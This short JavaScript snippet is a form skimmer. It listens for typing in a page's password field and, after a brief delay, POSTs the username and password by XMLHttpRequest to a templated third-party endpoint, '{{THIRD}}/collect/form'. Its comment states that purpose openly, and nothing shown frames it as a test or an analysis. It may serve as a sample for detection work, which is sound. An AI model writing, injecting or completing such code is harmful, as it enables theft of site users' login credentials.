// Watches the password field itself and sends it, form-encoded, with XHR.
(() => {
  const pw = document.querySelector('input[type=password]');
  let timer = 0;
  pw.addEventListener('input', () => {
    clearTimeout(timer);
    timer = setTimeout(() => {
      const x = new XMLHttpRequest();
      x.open('POST', '{{THIRD}}/collect/form');
      x.setRequestHeader('content-type', 'application/x-www-form-urlencoded');
      x.send('user=' + encodeURIComponent(document.querySelector('input[name=user]').value) + '&pw=' + encodeURIComponent(pw.value));
    }, 300);
  });
})();
